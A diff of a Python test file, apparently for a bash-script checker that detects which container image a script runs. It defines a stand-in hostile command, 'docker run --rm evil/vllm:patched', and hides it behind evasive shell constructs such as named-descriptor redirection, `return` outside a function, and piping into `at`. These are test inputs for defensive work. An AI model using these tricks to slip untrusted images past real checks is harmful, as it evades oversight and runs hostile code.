@@ -633,7 +633,6 @@ COMPUTED_COMMANDS = {
 }
 
 
-# Each class of code the checks cannot read, with what its reason says.
 # Text bash runs as code where it is used: arithmetic's subscripts, name operands, prompts,
 # a callback, the history; a program printed into a shell or `at`; a descriptor run as a file.
 IMAGE = "docker run --rm evil/vllm:patched vllm serve m"
@@ -664,8 +663,9 @@ EVALUATED = {
         "which the script writes when it runs",
     ),
 }
-# A program echo/printf print into a shell or `at` is read, and so is what follows a named
-# descriptor's redirection (`exec {fd}>f` was read as exec of a program): the image is seen.
+# Code the reader now reads, so the image it serves from is seen: what follows a named
+# descriptor's redirection (`exec {fd}>f` was read as exec of a program) or a `return` outside
+# a function, capsh's command string, and a program echo/printf print into a shell or `at`.
 PRINTED = {
     "after-named-descriptor": f"exec {{fd}}>/dev/null\n{IMAGE}",
     "after-a-return-outside-a-function": f"return 0 2>/dev/null\n{IMAGE}",
@@ -676,6 +676,7 @@ PRINTED = {
     "at": f"echo '{IMAGE}' | at now",
 }
 
+# Each class of code the checks cannot read, with what its reason says.
 FAILS_CLOSED = {
     **{f"evaluated/{k}": v for k, v in EVALUATED.items()},
     **{f"printed/{k}": (v, "evil/vllm:patched") for k, v in PRINTED.items()},
